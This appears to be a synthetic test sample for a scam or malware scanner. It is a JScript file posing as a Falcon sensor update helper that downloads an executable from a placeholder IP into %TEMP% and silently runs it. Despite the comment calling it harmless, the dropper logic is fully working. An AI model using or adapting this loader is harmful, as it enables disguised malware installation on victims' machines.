// Falcon sensor update helper
// scamscan synthetic sample - harmless text, not malware
var url = "http://203.0.113.7/falcon/FalconSensorUpdate.exe";
var path = new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\FalconSensorUpdate.exe";
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", url, false);
http.send();
var stream = new ActiveXObject("ADODB.Stream");
stream.Type = 1;
stream.Open();
stream.Write(http.responseBody);
stream.SaveToFile(path, 2);
stream.Close();
new ActiveXObject("WScript.Shell").Run(path, 0, false);
